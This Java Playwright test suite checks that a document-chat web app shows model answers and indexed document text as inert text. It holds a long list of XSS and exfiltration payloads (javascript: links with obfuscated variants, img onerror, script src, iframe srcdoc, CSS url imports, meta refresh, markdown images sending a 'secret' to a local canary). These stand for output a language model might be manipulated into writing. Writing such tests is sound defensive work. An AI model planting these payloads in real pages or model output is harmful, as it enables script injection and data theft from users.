package org.docchat;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Request;
import com.microsoft.playwright.assertions.LocatorAssertions;
import com.microsoft.playwright.options.AriaRole;
import jakarta.json.Json;
import java.io.IOException;
import java.io.StringReader;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.Semaphore;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

@DisplayName("On the chat page, answers come word by word, are checked, and do nothing but stand there")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ChatPageIT {
    private static final String PASSWORD = "Tr4vel-light-and-far";
    private static final double PATIENCE = 60_000;
    private static final String QUESTION = "Up to which amount are hotel costs refunded?";
    private static final String QUOTE = "Hotel costs are refunded up to 140 euros a night.";
    private static final byte[] POLICY = """
            # Travel policy

            ## Hotels
            Hotel costs are refunded up to 140 euros a night.

            ## Trains
            Train tickets are refunded in second class.

            ## Receipts
            Receipts are due within 14 days after the journey has ended.
            """.getBytes(UTF_8);
    private static final byte[] HANDBOOK = Pdf.of(
            List.of("Office handbook", "The office opens at seven in the morning and closes at eight in the evening."),
            List.of("Bicycles", "The deposit for a company bicycle is 75 euros."));
    private static final Pattern PASSAGE = Pattern.compile("<<<\\w+ passage (\\d+)>>>\\n([^,\\n]*)");

    private final FakeChatServer fake = new FakeChatServer((request, connection) -> connection.answer("Nothing."));
    private final List<String> complaints = new CopyOnWriteArrayList<>();
    private Canary canary;
    private LauncherProcess docchat;
    private Client admin;
    private String travel;
    private String hostile;
    private Browsers browsers;
    private Page page;

    /** Somebody who must hear nothing of what is read and written here. */
    private static final class Canary implements AutoCloseable {
        private final ServerSocket socket = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        private final AtomicInteger heard = new AtomicInteger();

        Canary() throws IOException {
            var ear = new Thread(
                    () -> {
                        try {
                            while (true) {
                                socket.accept().close();
                                heard.incrementAndGet();
                            }
                        } catch (IOException e) {
                            // Closed.
                        }
                    },
                    "canary");
            ear.setDaemon(true);
            ear.start();
        }

        String address() {
            return "http://127.0.0.1:" + socket.getLocalPort();
        }

        @Override
        public void close() throws IOException {
            socket.close();
        }
    }

    @BeforeAll
    void start(@TempDir Path home) throws Exception {
        browsers = Browsers.start();
        canary = new Canary();
        docchat = new LauncherProcess(
                home,
                Map.of(
                        "DOCCHAT_PORT",
                        Integer.toString(Installation.freePort()),
                        "DOCCHAT_ADMIN_PASSWORD",
                        PASSWORD,
                        "OPENAI_BASE_URL",
                        fake.address().toString(),
                        "DOCCHAT_CHAT_MODEL",
                        "example-instruct",
                        "DOCCHAT_CHAT_ANSWER_TOKENS",
                        "2000"));
        docchat.awaitGreeting();
        admin = docchat.client().signIn("admin", PASSWORD);
        travel = admin.newCollection("Travel");
        admin.indexed(travel, "policy.md", POLICY);
        admin.indexed(admin.newCollection("Office"), "handbook.pdf", HANDBOOK);
        hostile = admin.newCollection("Towers");
        admin.indexed(hostile, "towers.txt", (tower() + "\n\nThe tower of Bea has no roof.\n").getBytes(UTF_8));
        page = browsers.signedIn(
                docchat.address(),
                "admin",
                PASSWORD,
                new Browser.NewContextOptions()
                        .setViewportSize(1440, 900)
                        .setPermissions(List.of("clipboard-read", "clipboard-write")));
        page.addInitScript("addEventListener('securitypolicyviolation',"
                + " e => console.error('policy violated: ' + e.violatedDirective + ' ' + e.blockedURI))");
        page.onConsoleMessage(message -> {
            if (Set.of("error", "warning").contains(message.type())) {
                complaints.add(message.type() + ": " + message.text());
            }
        });
        page.onPageError(error -> complaints.add("uncaught: " + error));
        page.onDialog(dialog -> {
            complaints.add("dialog: " + dialog.message());
            dialog.dismiss();
        });
        page.context().onRequest(request -> {
            if (isOutside(request)) {
                complaints.add("asked for " + request.url());
            }
        });
    }

    private boolean isOutside(Request request) {
        return List.of(docchat.address() + "/", "data:", "blob:").stream().noneMatch(request.url()::startsWith);
    }

    @AfterAll
    void stop() throws Exception {
        fake.close();
        if (canary != null) {
            canary.close();
        }
        if (browsers != null) {
            browsers.close();
        }
        if (docchat != null) {
            docchat.close();
        }
    }

    @BeforeEach
    void silence() {
        complaints.clear();
        admin.get("/api/v1/conversations")
                .list("items")
                .forEach(each -> admin.delete("/api/v1/conversations/" + each.getString("id")));
    }

    @AfterEach
    void nothingWasRunFetchedOrRefused() {
        assertThat(page.evaluate("String(window.__xss)")).isEqualTo("undefined");
        assertThat(page.locator(".turn, #reader")
                        .locator("img, iframe, object, embed, script, style, link, meta, base, form[action], video, svg"
                                + " > :not(use), [href^='http'], [src], [style*=url], [onerror], [onload]"))
                .hasCount(0);
        assertThat(complaints).isEmpty();
        assertThat(canary.heard).hasValue(0);
    }

    /** A sentence of a document that says all that pages must not do. */
    private String tower() {
        return "The tower of Ada <img src=" + canary.address()
                + "/picture onerror=alert(1)> <script>alert(1)</script> is" + " 41 metres high and has a roof ![a]("
                + canary.address() + "/document?q=secret)";
    }

    /** What a model may be talked into writing. */
    private List<String> vectors() {
        var there = canary.address();
        var host = there.substring("http:".length());
        return List.of(
                "![a](" + there + "/?q=secret)",
                "![a][1]",
                "[1]: " + there + "/reference",
                "[x](" + there + "/link)",
                "[x](javascript:window.__xss=1)",
                "[x](&#106;avascript:window.__xss=1)",
                "[x](vbscript:window.__xss=1)",
                "[x](JaVaScRiPt:window.__xss=1)",
                "[x](java\tscript:window.__xss=1)",
                "[x](\u0001javascript:window.__xss=1)",
                "[x](<javascript:window.__xss=1>)",
                "[x](javascript&colon;window.__xss=1)",
                "[x](%6aavascript:window.__xss=1)",
                "[x]( javascript:window.__xss=1 'title')",
                "<javascript:window.__xss=1>",
                "![x](x\"onerror=\"window.__xss=1)",
                "![x\" onerror=\"window.__xss=1](x)",
                "<!-- --!> <img src=x onerror=window.__xss=1> -->",
                "[x](data:text/html,<script>window.__xss=1</script>)",
                "<" + there + "/automatic>",
                there + "/bare",
                "![h](" + host + "/host)",
                "<img src=\"" + there + "/img\" onerror=\"window.__xss=1\">",
                "<img srcset=" + host + "/set>",
                "<svg/onload=window.__xss=1><image href=" + there + "/svg />",
                "\"><script>window.__xss=1</script>",
                "<script src=" + there + "/script></script>",
                "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
                "<style>@import url(" + there + "/style);</style>",
                "<div style=\"background:url(" + there + "/css)\">x</div>",
                "<link rel=preload as=image href=" + there + "/preload>",
                "<link rel=preconnect href=" + there + ">",
                "<link rel=dns-prefetch href=" + host + ">",
                "<meta http-equiv=refresh content=\"0;url=" + there + "/refresh\">",
                "<base href=" + there + "/>",
                "<form action=" + there + "/form><input autofocus onfocus=window.__xss=1></form>",
                "<video poster=" + there + "/poster autoplay><source src=" + there + "/source></video>",
                "<object data=" + there + "/object></object><embed src=" + there + "/embed>",
                "<details open ontoggle=window.__xss=1>",
                "<a href=" + there + "/ping ping=" + there + "/ping>x</a>",
                "| a | b |\n|---|---|\n| ![c](" + there + "/cell) | <img src=" + there + "/cell2> |",
                "$$\\href{javascript:window.__xss=1}{x} \\includegraphics{" + there + "/math}$$",
                "**[b](" + there + "/bold)** *<img src=" + there + "/emphasis>* `<img src=" + there + "/code>`",
                "- <img src=" + there + "/item>\n  1. ![n](" + there + "/nested)",
                "# <img src=" + there + "/heading>",
                "> ".repeat(500) + "![q](" + there + "/quote)",
                "- ".repeat(500) + "![l](" + there + "/list)",
                "*".repeat(500) + "![s](" + there + "/stars)",
                "[".repeat(300) + "x" + "](y)".repeat(300),
                "```html\n<img src=" + there + "/fence onerror=window.__xss=1>\n![f](" + there + "/fence)");
    }

    /** Each item a space further in than the one before, as far as a line may reach. */
    private static String deepList(int items) {
        var list = new StringBuilder();
        for (int i = 0; i < items; i++) {
            list.append(" ".repeat(i % 300)).append("- ").append(i).append('\n');
        }
        return list.toString();
    }

    @Test
    @Tag("X3")
    @Tag("P2")
    void whatAModelWritesIsTextAsLongAsItComesAndWhenItBreaksOff() throws Exception {
        var all = String.join("\n\n", vectors());
        var shown = new Semaphore(0);
        fake.doNow((request, connection) -> {
            connection.events();
            for (int i = 0; i < all.length(); i += 7) {
                connection.token(json(all.substring(i, Math.min(i + 7, all.length()))));
            }
            shown.acquire();
            connection.reset();
        });
        open(travel);
        ask(QUESTION);

        // The last of it, in a fence that is never closed.
        assertThat(answer()).containsText("/fence onerror=window.__xss=1>", patiently());
        for (var text : List.of(
                "![a](" + canary.address() + "/?q=secret)",
                "[x](javascript:window.__xss=1)",
                "<script src=" + canary.address() + "/script></script>",
                canary.address() + "/bare",
                "<meta http-equiv=refresh")) {
            assertThat(answer()).containsText(text);
        }
        nothingWasRunFetchedOrRefused();

        shown.release();
        assertThat(turn()).containsText("These are the documents' own sentences instead", patiently());
        assertThat(answer()).containsText("140 euros");
        pictures("model-failed");
    }

    /** The page's own code, given what no stream can be timed to show: each vector, cut behind each of its characters. */
    @Test
    @Tag("X3")
    @Tag("P2")
    void noBeginningOfAnAnswerMakesMoreThanText() {
        open(travel);
        var vectors = new ArrayList<>(vectors());
        vectors.add("- ".repeat(10_000) + "![l](" + canary.address() + "/deep)");
        vectors.add(deepList(10_000) + "![l](" + canary.address() + "/deeper)");

        var made = page.evaluate("""
                async (vectors) => {
                  const { answerText } = await import('/resources/js/answer-text.js');
                  const body = document.body.appendChild(document.createElement('div'));
                  const made = new Set();
                  for (const vector of vectors) {
                    for (let end = 1; end <= Math.min(vector.length, 400); end++) {
                      body.replaceChildren(...answerText(vector.slice(0, end), () => null));
                      for (const each of body.querySelectorAll('*')) {
                        made.add([each.localName, ...each.getAttributeNames()].join(' '));
                      }
                    }
                    body.replaceChildren(...answerText(vector, () => null));
                  }
                  body.remove();
                  return [...made].sort().join(', ');
                }
                """, vectors);
        assertThat(made).asString().matches("(?:(?:br|code|em|h3|li|ol|p|pre|span class|strong|ul)(?:, )?)+");
    }

    @Test
    @Tag("X2")
    @Tag("X3")
    @Tag("P2")
    void whatADocumentSaysIsTextWhereverItIsShownAndWhereItIsPasted() {
        // What it says is not backed, so that the document speaks for itself.
        fake.doNow((request, connection) -> connection.answer("Nobody knows [1]."));
        open(hostile);
        ask("How high is the tower of Ada?");
        var chip = chip();
        assertThat(chip).isVisible(within());
        assertThat(answer()).containsText("41 metres");
        chip.hover();
        assertThat(page.locator(".quote-pop")).containsText("<script>alert(1)</script>");
        turn().getByText("Why this answer").click();
        assertThat(turn().locator(".found")).containsText("![a](" + canary.address());
        chip.click();
        assertThat(page.locator("#reader .body")).containsText("<img src=" + canary.address(), patiently());

        var copied = copy();
        assertThat(copied)
                .contains("41 metres")
                .contains("\\<script\\>")
                .doesNotContainPattern("(?<!\\\\)(?:\\\\\\\\)*[<\\[]");
    }

    /** A backslash that somebody wrote must not undo the one that makes markup text. */
    @Test
    @Tag("P2")
    void aCopyHasNoMarkupThatABackslashUncovers() {
        open(travel);

        var copied = page.evaluate("""
                async () => {
                  const { markdown } = await import('/resources/js/answer-text.js');
                  return markdown({ question: '\\\\<img src=x>', text: '\\\\<img src=x> !\\\\[a](x) **bold** [1]', citations: [
                    { number: 1, documentName: '![n](x).md', section: '<b>', version: 2, quote: '![q](x)\\n- \\\\`x' }] });
                }
                """);
        assertThat(copied)
                .isEqualTo(
                        "**\\\\\\<img src=x\\>**\n\n\\\\\\<img src=x> !\\\\\\[a\\](x) **bold** \\[1\\]\n\nSources:\n\n"
                                + "\\[1\\] !\\[n\\](x).md, \\<b\\> · version 2: “!\\[q\\](x) - \\\\\\`x”");
    }

    @Test
    void wordsComeAsTheyAreWrittenAndTheAnswerIsSaidOnce() throws Exception {
        var more = new Semaphore(0);
        fake.doNow((request, connection) -> {
            connection.events().token("Hotel costs are refunded ");
            more.acquire();
            connection.token("up to 140 euros a night [").token(number(request, "policy.md") + "]. ");
            more.acquire();
            connection.token("Breakfast is free [1].").finish("stop").send("data: [DONE]\n\n");
            connection.close();
        });
        open(travel);
        page.evaluate("""
                () => {
                  window.said = [];
                  new MutationObserver(() => {
                    const text = document.getElementById('announce').textContent;
                    if (text) window.said.push(text);
                  }).observe(document.getElementById('announce'), { childList: true });
                }
                """);
        ask(QUESTION);

        assertThat(answer()).hasText("Hotel costs are refunded", hasText());
        assertThat(page.getByRole(AriaRole.BUTTON, named("Stop"))).isEnabled();
        more.release();
        assertThat(answer()).containsText("up to 140 euros a night");
        assertThat(answer().locator(".cite.pending")).isVisible();
        pictures("writing");
        more.release();

        assertThat(chip()).isVisible(within());
        assertThat(answer()).not().containsText("Breakfast");
        assertThat(turn()).containsText("Left out: one sentence");
        Await.until("it is said", Duration.ofSeconds(10), () -> !page.evaluate("window.said.length")
                .equals(0));
        assertThat(page.evaluate("window.said"))
                .asInstanceOf(org.assertj.core.api.InstanceOfAssertFactories.LIST)
                .singleElement()
                .asString()
                .contains("140 euros")
                .doesNotContain("[");
        assertThat(answer().evaluate("node => node.closest('[aria-live], [role=status], [role=alert], [role=log]')"))
                .isNull();
        assertThat(page.locator("#question")).isFocused();
    }

    @Test
    @Tag("F9")
    void stopEndsTheWritingHereAndAtTheModel() throws Exception {
        fake.doNow((request, connection) -> {
            connection.events().token("Hotel costs are refunded [1]");
            while (true) {
                connection.token(" and so on");
                Thread.sleep(100);
            }
        });
        open(travel);
        ask(QUESTION);
        assertThat(answer()).containsText("Hotel costs are refunded", patiently());

        page.getByRole(AriaRole.BUTTON, named("Stop")).click();

        assertThat(turn()).containsText("Stopped. What stands above is unfinished, and its sources were not checked.");
        assertThat(answer()).containsText("Hotel costs are refunded");
        assertThat(answer().locator("button")).hasCount(0);
        assertThat(page.getByRole(AriaRole.BUTTON, named("Ask").setExact(true))).isVisible();
        assertThat(fake.isLeft(30)).isTrue();
        pictures("stopped");
    }

    @Test
    void aChipShowsItsQuoteAndOpensTheReaderAtTheMarkedWords() {
        truthful();
        open(travel);
        ask(QUESTION);
        var pop = page.locator(".quote-pop");

        chip().hover();
        assertThat(pop).containsText(QUOTE);
        pictures("answered");
        page.mouse().move(0, 0);
        assertThat(pop).hasCount(0);

        chip().click();
        assertThat(page.locator("#reader mark").first()).hasText(QUOTE, hasText());
        assertThat(page.locator("#reader mark").first()).isInViewport();
        pictures("reader");
        page.getByRole(AriaRole.BUTTON, named("Close the document")).click();
        page.locator("#question").focus();
        assertThat(pop).hasCount(0);
        chip().focus();
        assertThat(pop).containsText(QUOTE);
        assertThat(chip()).hasAttribute("aria-describedby", "quote-pop");
        page.keyboard().press("Escape");
        assertThat(pop).hasCount(0);
        assertThat(copy())
                .isEqualTo(
                        "**" + QUESTION + "**\n\nHotel costs are refunded up to 140 euros a night \\[1\\].\n\nSources:"
                                + "\n\n\\[1\\] policy.md, Travel policy › Hotels: “" + QUOTE + "”");
    }

    @Test
    void aChipStandsOnTheLineOfTheWordBeforeItHoweverNarrowTheAnswerIs() {
        truthful();
        open(travel);
        ask(QUESTION);
        assertThat(chip()).isVisible(within());

        var apart = answer().evaluate("""
                answer => {
                  const apart = [];
                  for (let width = 120; width <= 480; width += 4) {
                    answer.style.width = `${width}px`;
                    if (answer.querySelector('.cite').parentNode.getClientRects().length > 1) {
                      apart.push(width);
                    }
                  }
                  return apart.join();
                }
                """);
        assertThat(apart).isEqualTo("");
    }

    @Test
    void withTheKeyboardAloneSomebodyAsksReadsAndComesBack() {
        truthful();
        open(travel);
        assertThat(page.locator("#question")).isFocused();
        page.keyboard().type(QUESTION);
        page.keyboard().press("Enter");
        assertThat(chip()).isVisible(within());
        assertThat(page.locator("#question")).isFocused();

        for (int i = 0; i < 30 && !isFocused(".turn .cite"); i++) {
            page.keyboard().press("Shift+Tab");
        }
        assertThat(chip()).isFocused();
        assertThat(page.locator(".quote-pop")).containsText(QUOTE);
        page.keyboard().press("Enter");
        assertThat(page.locator("#reader mark").first()).isVisible(within());
        assertThat(page.locator("#reader .title")).isFocused();
        // The first closes the quote that the chip shows, if it is there still.
        page.keyboard().press("Escape");
        if (page.locator("#reader").isVisible()) {
            page.keyboard().press("Escape");
        }
        assertThat(page.locator("#reader")).isHidden();
        assertThat(chip()).isFocused();

        for (int i = 0; i < 30 && !isFocused("[aria-pressed][aria-label='Not helpful']"); i++) {
            page.keyboard().press("Tab");
        }
        page.keyboard().press("Enter");
        assertThat(page.getByLabel("Comment on this answer")).isFocused();
        assertThat(page.locator(".quote-pop")).hasCount(0);
        page.keyboard().press("Escape");
        assertThat(page.getByRole(AriaRole.BUTTON, named("Not helpful"))).isFocused();
    }

    private boolean isFocused(String selector) {
        return (boolean) page.evaluate("selector => document.activeElement.matches(selector)", selector);
    }

    @Test
    void severalCollectionsAreAskedAtOnce() {
        fake.doNow((request, connection) -> connection.answer(
                "Hotel costs are refunded up to 140 euros a night [" + number(request, "policy.md") + "]. ",
                "The deposit for a company bicycle is 75 euros [" + number(request, "handbook.pdf") + "]."));
        open(travel);
        var chips = page.getByRole(AriaRole.GROUP, new Page.GetByRoleOptions().setName("Collections that are asked"));
        assertThat(chips.getByRole(AriaRole.BUTTON, in("Travel"))).hasAttribute("aria-pressed", "true");
        assertThat(chips.getByRole(AriaRole.BUTTON, in("Office"))).hasAttribute("aria-pressed", "false");
        chips.getByRole(AriaRole.BUTTON, in("Office")).click();
        assertThat(chips.getByRole(AriaRole.BUTTON, in("Towers"))).hasAttribute("aria-pressed", "false");

        ask("How many euros are refunded for a hotel, and how many is the deposit for a company bicycle?");

        assertThat(turn().getByRole(AriaRole.GROUP, in("Sources"))).containsText("policy.md", patiently());
        assertThat(turn().getByRole(AriaRole.GROUP, in("Sources"))).containsText("handbook.pdf · page 2");
    }

    @Test
    void aRatingCanBeExplainedAndIsThereAgainWhenTheConversationIsReopened() {
        truthful();
        open(travel);
        ask(QUESTION);
        assertThat(chip()).isVisible(within());
        turn().getByRole(AriaRole.BUTTON, in("Not helpful")).click();
        page.getByLabel("Comment on this answer").fill("Which <b>year</b>?");
        turn().getByRole(AriaRole.BUTTON, in("Send")).click();
        assertThat(turn()).containsText("Your comment: “Which <b>year</b>?”");

        page.reload();

        assertThat(turn().getByRole(AriaRole.BUTTON, in("Not helpful"))).hasAttribute("aria-pressed", "true");
        assertThat(turn().getByRole(AriaRole.BUTTON, in("Helpful").setExact(true)))
                .hasAttribute("aria-pressed", "false");
        assertThat(turn()).containsText("Your comment: “Which <b>year</b>?”");
        // Another rating keeps the comment, which is there to be changed.
        turn().getByRole(AriaRole.BUTTON, in("Helpful").setExact(true)).click();
        assertThat(page.getByLabel("Comment on this answer")).hasValue("Which <b>year</b>?");
        var id = page.url().replaceAll(".*conversation=", "");
        var kept = admin.get("/api/v1/conversations/" + id).list("answers").get(0);
        assertThat(kept.getJsonObject("feedback").getString("rating")).isEqualTo("up");
        assertThat(kept.getJsonObject("feedback").getString("comment")).isEqualTo("Which <b>year</b>?");
    }

    /** Words that wait for the next frame when an answer fails are not drawn below what is said of that. */
    @Test
    void afterAFailureNoUncheckedWordIsDrawn() {
        open(travel);

        var left = page.evaluate("""
                async () => {
                  const { Turn } = await import('/resources/js/turn.js');
                  const turn = new Turn('Why?', { onRead() {}, onAgain() {} });
                  document.getElementById('turns').append(turn.node);
                  turn.token('Unchecked words');
                  turn.failed(new Error('It broke.'), () => {});
                  await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
                  return turn.node.textContent;
                }
                """);
        assertThat(left).asString().contains("It broke.").doesNotContain("Unchecked");
    }

    @Test
    void whatIsNotThereAFollowUpAndAnErrorSayWhatTheyAre() {
        fake.doNow((request, connection) -> connection.answer(
                request.body().contains("passage 1>>>")
                        ? "Train tickets are refunded in second class [" + number(request, "policy.md") + "]."
                        : "Up to which amount are train tickets refunded?"));
        open(travel);
        ask("Who won the world chess championship in 1972?");
        assertThat(answer()).containsText("Not in your documents", patiently());
        assertThat(turn().locator(".found li").first()).isVisible();
        pictures("not-found");

        open(travel);
        ask("In which class are train tickets refunded?");
        assertThat(chip()).isVisible(within());
        ask("And up to which amount are they?");
        assertThat(turn().locator(".searched")).containsText("Searched for", patiently());
        assertThat(page.getByRole(AriaRole.BUTTON, named("Ask").setExact(true))).isVisible(within());
        pictures("follow-up");

        page.route("**/api/v1/answers", route -> route.abort());
        ask("And when are receipts due?");
        assertThat(turn().getByRole(AriaRole.ALERT)).containsText("The server does not answer.", patiently());
        pictures("error");
        page.unroute("**/api/v1/answers");
        assertThat(complaints).singleElement().asString().contains("ERR_FAILED");
        complaints.clear();
    }

    private void truthful() {
        fake.doNow((request, connection) -> connection.answer(
                "Hotel costs are refunded ", "up to 140 euros ", "a night [" + number(request, "policy.md") + "]."));
    }

    /** Under which number a document stands in the prompt. */
    private static int number(FakeChatServer.Request request, String document) {
        try (var reader = Json.createReader(new StringReader(request.body()))) {
            var prompt = reader.readObject()
                    .getJsonArray("messages")
                    .getJsonObject(1)
                    .getString("content");
            return PASSAGE.matcher(prompt)
                    .results()
                    .filter(passage -> passage.group(2).equals(document))
                    .map(passage -> Integer.parseInt(passage.group(1)))
                    .findFirst()
                    .orElse(99);
        }
    }

    /** As it stands inside a string of JSON, but for what the server's script does itself. */
    private static String json(String text) {
        return text.replace("\\", "\\\\").replace("\t", "\\t").replace("\u0001", "\\u0001");
    }

    private void open(String collection) {
        page.navigate("/ask.xhtml?collection=" + collection);
        assertThat(page.locator("#question")).isEnabled(new LocatorAssertions.IsEnabledOptions().setTimeout(PATIENCE));
    }

    private void ask(String question) {
        page.locator("#question").fill(question);
        page.locator("#question").press("Enter");
    }

    private Locator turn() {
        return page.locator(".turn").last();
    }

    private Locator answer() {
        return turn().locator(".answer");
    }

    private Locator chip() {
        return answer().locator("button.cite").first();
    }

    private String copy() {
        turn().getByRole(AriaRole.BUTTON, in("Copy")).click();
        assertThat(turn()).containsText("Copied, with sources");
        return (String) page.evaluate("navigator.clipboard.readText()");
    }

    /** On a desk and on a phone. */
    private void pictures(String state) {
        for (int width : List.of(390, 1440)) {
            page.setViewportSize(width, width == 390 ? 844 : 900);
            turn().evaluate("turn => turn.scrollIntoView({ block:"
                    + " turn.offsetHeight > turn.parentNode.clientHeight ? 'start' : 'end' })");
            page.screenshot(new Page.ScreenshotOptions()
                    .setPath(Path.of("target", "screenshots", "chat-" + state + "-" + width + ".png")));
        }
    }

    private static Page.GetByRoleOptions named(String name) {
        return new Page.GetByRoleOptions().setName(name);
    }

    private static Locator.GetByRoleOptions in(String name) {
        return new Locator.GetByRoleOptions().setName(name);
    }

    private static LocatorAssertions.ContainsTextOptions patiently() {
        return new LocatorAssertions.ContainsTextOptions().setTimeout(PATIENCE);
    }

    private static LocatorAssertions.HasTextOptions hasText() {
        return new LocatorAssertions.HasTextOptions().setTimeout(PATIENCE);
    }

    private static LocatorAssertions.IsVisibleOptions within() {
        return new LocatorAssertions.IsVisibleOptions().setTimeout(PATIENCE);
    }
}
